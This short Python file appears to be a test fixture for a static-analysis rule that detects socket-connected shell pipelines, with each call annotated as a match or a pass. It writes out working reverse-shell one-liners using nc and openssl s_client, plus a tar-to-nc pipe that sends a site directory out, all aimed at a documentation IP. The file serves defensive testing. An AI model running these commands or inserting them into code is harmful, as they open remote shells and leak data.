import os
import subprocess

# ok: socket-shell-pipeline
subprocess.run("tar -c /srv/site | nc 203.0.113.9 9000", shell=True)
# ok: socket-shell-pipeline
print("cat /tmp/f | sh -i | nc HOST PORT")
# ruleid: socket-shell-pipeline
os.system("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f")
# ruleid: socket-shell-pipeline
subprocess.Popen(["sh", "-c", "mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s"])
